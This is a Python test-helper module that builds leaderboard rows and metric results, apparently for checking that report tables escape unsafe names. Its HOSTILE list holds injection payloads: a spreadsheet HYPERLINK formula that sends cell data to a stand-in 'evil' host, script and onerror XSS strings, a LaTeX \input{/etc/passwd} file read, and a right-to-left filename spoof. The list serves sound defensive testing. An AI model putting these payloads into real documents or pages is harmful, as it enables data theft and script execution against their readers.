"""Rows of a leaderboard made by hand."""

from __future__ import annotations

from pathlib import Path
from typing import Any, Literal

from marl_eval.reports.table.rows import Role, Row
from marl_eval.results import MetricResult

Ends = tuple[float | None, float | None, float | None]
"""Value, low and high."""

HOSTILE = [
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "'=1",
    "\uff1d1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a|b",
    "a\\|b",
    "`code`",
    "``",
    "[link](http://evil)",
    "![](http://evil)",
    "https://evil.example www.evil.example evil.example",
    "**bold** _italic_ # heading",
    "\\input{/etc/passwd} $x^2$ a_b 100% & #1 {~}",
    "?`--'' <<>>",
    "\x1b[31mred\x07\x00",
    "\u202egnp.exe\u2066",
    "two\nlines\r\nmore\u2028still",
    "\ud800",
    "&lt;b&gt; &#124;",
    '"quoted", and ; more',
]
"""Names that would be run, drawn or misread if they were written as they are."""


def result(
    ends: Ends,
    better: Literal["higher", "lower", "neither"] = "higher",
    share: float | None = None,
    curve: tuple[str, float] | None = None,
) -> MetricResult:
    name, at = curve or (None, None)
    return MetricResult(
        value=ends[0], low=ends[1], high=ends[2], n=10, denominator=10, counted="examples",
        better=better, share=share, curve=name, at=at,
    )  # fmt: skip


def row(
    name: str,
    metrics: dict[str, MetricResult],
    *,
    role: Role = "model",
    rank: int | None = None,
    ranked_by: str | None = "recall",
    complete: bool = True,
    **columns: Any,
) -> Row:
    told: dict[str, Any] = {
        "run": name, "model": name, "task": "ddxsim", "split": "test", "strategy": "multi", "k": 3,
        "n": 1, "examples": 10, "requests": 10, "errors": 0 if complete else 2,
        "parsing": "lenient", "interval": "95% BCa bootstrap", "data_sha256": "d" * 64,
        "identity": name, **columns,
    }  # fmt: skip
    return Row(
        run=name,
        path=Path(name),
        identity=str(told["identity"]),
        role=role,
        rank=rank,
        ranked_by=ranked_by if role == "model" else None,
        columns=told,
        metrics=metrics,
        complete=complete,
    )
